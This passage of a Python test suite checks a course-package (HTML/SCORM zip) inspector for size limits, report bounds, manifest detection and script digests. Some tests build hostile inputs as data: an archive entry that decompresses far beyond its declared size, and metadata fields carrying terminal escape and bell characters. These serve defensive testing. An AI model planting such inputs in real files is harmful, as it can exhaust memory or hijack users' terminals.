    name = f"b{kind}"
    report = judged(archive([*entries(files), Entry(name.encode(), b"x", size=BIGGEST[kind] + 1)]), tmp_path)
    assert ("PAQ006", name) in {(problem.code, problem.entry) for problem in report.problems}
    assert name not in read
    assert PAGE in read


def test_nothing_is_unpacked_beyond_the_size_of_a_package(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Many entries, each within the limit of its type, are refused for what they come to together."""
    monkeypatch.setattr(inspect.Entry, "content", lambda _: pytest.fail("ouvert"))
    many = [Entry(b"%d.html" % n, b"x", size=1_000_000) for n in range(51)]
    assert "PAQ006" in {problem.code for problem in judged(archive(many), tmp_path).problems}


def test_no_more_is_unpacked_than_announced(tmp_path: Path, files: Files) -> None:
    """A stream that gives more than it says is not followed."""
    data = archive([*entries(files), Entry(b"b.svg", bytes(150_000_000), size=1000)])
    tracemalloc.start()
    report = judged(data, tmp_path)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 110_000_000
    assert ("PAQ001", "b.svg") in {(problem.code, problem.entry) for problem in report.problems}


def test_file_beyond_the_limit_is_not_read_whole(tmp_path: Path) -> None:
    """A huge file is refused for its size."""
    path = tmp_path / "enorme.zip"
    with path.open("wb") as stream:
        stream.truncate(200_000_000)
    tracemalloc.start()
    assert [problem.code for problem in inspect_archive(path).problems] == ["PAQ006"]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 110_000_000


def test_faults_are_told_within_bounds(tmp_path: Path, files: Files) -> None:
    """A page with a hundred thousand faults, or a thousand pages with one each, make a report that one can read."""
    report = judged(with_body("".join(f"<x{n}></x{n}>" for n in range(50_000)))(files), tmp_path)
    assert 0 < len(report.problems) <= 25
    report = judged(archive([Entry(b"%d.html" % n, b"x") for n in range(1500)]), tmp_path)
    assert len(report.problems) > 1500
    assert len(str(report).splitlines()) < 100
    assert f"… et {len(report.problems) - 20 - 2} autres PAQ012" in str(report)


# ——— what is said ———


def test_folder_and_absent_file_are_not_packages(tmp_path: Path) -> None:
    """What is not a file is told like the rest, without a traceback."""
    for path in (tmp_path, tmp_path / "absent.zip"):
        assert [problem.code for problem in inspect_archive(path).problems] == ["PAQ001"]


def test_name_that_announces_scorm_needs_a_manifest(tmp_path: Path, files: Files) -> None:
    """A SCORM package without its manifest is not an HTML one."""
    report = judged(zipped(html_only(files)), tmp_path, "cours-scorm12-1.zip")
    assert [problem.code for problem in report.problems] == ["PAQ008"]


def test_report_cannot_drive_the_terminal(tmp_path: Path, files: Files) -> None:
    """What a package says of itself is shown without control characters, and not at any length."""
    report = judged(in_provenance(titre="\x1b[2Jx", licence="\x07", source={"nom": "e" * 5000, "adresse": ""})(html_only(files)), tmp_path)
    assert report.problems == ()
    assert all(line.isprintable() for line in str(report).splitlines())
    assert len(str(report)) < 600


def test_package_of_another_tool_is_told_apart(tmp_path: Path) -> None:
    """It is neither sound nor accused: what was recognised is counted, the rest is listed, and the tool does not vouch."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("imsmanifest.xml", '<?xml version="1.0"?>\n<!-- Autre outil -->\n<manifest/>')
        made.writestr("index_lms.html", "<!DOCTYPE html><html><body><script src='lib/player.js'></script></body></html>")
        made.writestr("lib/player.js", "play()")
        made.writestr("images/a.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect width="1" height="1"/></svg>\n')
        made.writestr("LISEZ-MOI.txt", "x")
    report = judged(stream.getvalue(), tmp_path)
    assert report.form == "paquet à manifeste, d’un autre modèle"
    assert (report.recognised, report.files) == (1, 5)
    told = {(problem.code, problem.entry) for problem in report.problems}
    assert {("PAQ008", MANIFEST), ("PAQ014", "lib/player.js"), ("PAQ012", "index_lms.html"), ("PAQ007", "LISEZ-MOI.txt")} <= told
    assert "Reconnu : 1 fichier sur 5" in str(report)
    assert str(report).splitlines()[-1].startswith("Inconnu : ")


def test_programs_of_published_versions_are_known(
    tmp_path: Path, files: Files, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A package holds the programs of one version; those of two versions together are not known."""
    former = signed({**files, "enclair.js": b"'1';", "projection.js": b"'2';"})
    assert {problem.code for problem in judged(zipped(former), tmp_path).problems} == {"PAQ014"}
    digests = {name: digest for name, digest in json.loads(former[PROVENANCE])["sha256"].items() if name.endswith((".js", ".css"))}
    monkeypatch.setattr(admitted, "FORMER", {"2025.1": digests})
    assert judged(zipped(former), tmp_path).problems == ()
    assert judged(zipped(files), tmp_path).problems == ()
    mixed = signed({**former, "projection.js": files["projection.js"]})
    assert {problem.entry for problem in judged(zipped(mixed), tmp_path).problems} != set()


def test_former_versions_have_their_programs() -> None:
    """Each version of the notes but the last has its digests: those of `provenance.json` in any of its packages."""
    notes = (Path(__file__).parents[1] / "NOTES.md").read_text("utf-8")
    versions = {line.split()[1] for line in notes.splitlines() if line.startswith("## 20")}
    told = "ajoutez à FORMER les empreintes des .css et .js de la version publiée"
    assert versions - {__version__} <= FORMER.keys() <= versions, told


def test_report_counts_what_it_read(tmp_path: Path, files: Files) -> None:
    """Pages, questions and files are those of the package, all recognised; so is the day to read its facts again."""
    report = judged(zipped(files), tmp_path)
    assert (report.review, "  À relire avant le : 2027-03-01\n" in str(report)) == ("2027-03-01", True)
    assert (report.held, report.files, report.recognised) == (Counts(4, 1, 2, 2, 1), len(files), len(files))
